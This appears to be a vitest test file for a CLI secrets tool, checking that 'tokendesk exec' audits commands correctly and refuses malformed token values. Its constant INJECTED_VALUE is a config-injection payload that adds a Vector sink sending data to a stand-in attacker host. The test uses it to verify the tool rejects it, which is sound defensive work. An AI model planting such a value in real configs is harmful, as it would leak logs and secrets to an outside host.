/**
 * `tokendesk exec` audits what happened, and hands out only values of their token's shape. The
 * built binary on the LogScale emulator: a command that could not be started (exit 127) is audited
 * as failed, one refused before it starts (the value in its arguments) is not audited at all, one
 * that runs is audited ok. A provider that returns an ingest token value with a quote and line
 * breaks (which, rendered into a Vector config, would add a sink) gets nothing written and nothing
 * run, and the value is never printed.
 */
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createKeytarKeychain } from '../../main/core/vault/keychain';
import { startLogScaleEmulator, type LogScaleEmulator } from '../emulators/logscale';
import { cliRunner } from '../support/cli';
import { requireSecretService } from '../support/keychain';

const INJECTED_VALUE = 'x"\n[sinks.evil]\ntype = "http"\nuri = "https://attacker.invalid/"\nz = "';

describe('tokendesk exec: audit and value shapes', () => {
  let emulator: LogScaleEmulator;
  const dataDir = mkdtempSync(join(tmpdir(), 'tokendesk-cli-exec-audit-'));
  const work = mkdtempSync(join(tmpdir(), 'tokendesk-cli-exec-work-'));
  const service = `tokendesk-cli-exec-audit-${process.pid}`;
  const cli = cliRunner(dataDir, service);
  let vector = '';
  const injections = async (): Promise<Array<Record<string, string>>> =>
    JSON.parse((await cli(['audit', 'list', '--action', 'secret-injected', '--json'])).stdout) as Array<Record<string, string>>;

  beforeAll(async () => {
    requireSecretService();
    emulator = await startLogScaleEmulator();
    expect((await cli(['accounts', 'add', '--provider', 'logscale', '--label', 'Prod', '--url', emulator.baseUrl], `${emulator.adminToken}\n`)).code).toBe(0);
    expect((await cli(['tokens', 'create', '--account', 'Prod', '--kind', 'ingest', '--repository', 'sandbox', '--name', 'vector'])).code).toBe(0);
    vector = (await cli(['tokens', 'get', 'vector'])).stdout.trim();
    emulator.issueIngestToken('sandbox', 'crafted').token = INJECTED_VALUE;
    expect((await cli(['tokens', 'sync'])).code).toBe(0);
  }, 60_000);
  afterAll(async () => {
    const keychain = createKeytarKeychain(service);
    for (const key of await keychain.keys()) await keychain.delete(key);
    await emulator.close();
    rmSync(dataDir, { recursive: true, force: true });
    rmSync(work, { recursive: true, force: true });
  });

  it('a command that cannot be started (127) is audited as failed, never ok', async () => {
    const before = (await injections()).length;
    expect(await cli(['exec', '--env', 'T=Prod/vector', '--', 'no-such-command-tokendesk'])).toMatchObject({
      code: 127,
      stderr: expect.stringContaining('command not found'),
    });
    const after = await injections();
    expect(after).toHaveLength(before + 1);
    expect(after[0]).toMatchObject({ outcome: 'failed', tokenName: 'vector', command: 'no-such-command-tokendesk', note: 'env T; not started: ENOENT' });
  });

  it('a command refused before it starts (the value in its arguments, exit 2) is not audited', async () => {
    const before = (await injections()).length;
    expect(await cli(['exec', '--env', 'T=Prod/vector', '--', 'echo', vector])).toMatchObject({ code: 2 });
    expect(await cli(['exec', '--env', 'LC_ALL=Prod/vector', '--', 'true'])).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('LC_ALL is read by the system'),
    });
    expect(await injections()).toHaveLength(before);
  });

  it('a command that starts is audited ok, with its exit code passed through', async () => {
    expect(await cli(['exec', '--env', 'T=Prod/vector', '--', process.execPath, '-e', 'process.exit(process.env.T ? 5 : 6)'])).toMatchObject({ code: 5 });
    expect((await injections())[0]).toMatchObject({ outcome: 'ok', tokenName: 'vector', command: 'node', note: 'env T' });
  });

  it("a value without its kind's shape is refused, naming the token: no file written, no command run, the value never printed", async () => {
    const before = (await injections()).length;
    const template = join(work, 'vector.toml.tmpl');
    const out = join(work, 'vector.toml');
    writeFileSync(template, '[sinks.logscale]\ntype = "humio_logs"\ntoken = "{{ tokendesk "Prod/crafted" }}"\n');
    const rendered = await cli(['exec', '--template', template, '--out', out]);
    expect(rendered).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('The value Tokendesk holds for “crafted” does not have the shape of a LogScale ingest token'),
    });
    expect(existsSync(out)).toBe(false);
    const marker = join(work, 'ran');
    const env = await cli(['exec', '--env', 'T=Prod/crafted', '--', process.execPath, '-e', `require("fs").writeFileSync(${JSON.stringify(marker)}, "")`]);
    expect(env).toMatchObject({ code: 1, stderr: expect.stringContaining('“crafted” does not have the shape') });
    expect(existsSync(marker)).toBe(false);
    for (const run of [rendered, env]) expect(run.stdout + run.stderr).not.toContain('attacker.invalid');
    expect(await injections()).toHaveLength(before);
  });
});
